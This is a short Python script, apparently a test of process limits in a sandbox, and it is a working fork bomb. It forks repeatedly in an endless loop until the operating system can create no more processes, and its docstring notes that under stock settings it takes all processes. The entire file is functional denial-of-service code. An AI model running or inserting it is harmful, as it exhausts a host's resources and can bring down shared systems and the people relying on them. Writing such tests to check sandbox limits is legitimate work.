"""Forks until nothing is left to fork.

stock: no, it takes all processes
"""

import os

for _ in range(6):
    try:
        os.fork()
    except OSError:
        pass
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(100)
    except OSError:
        break
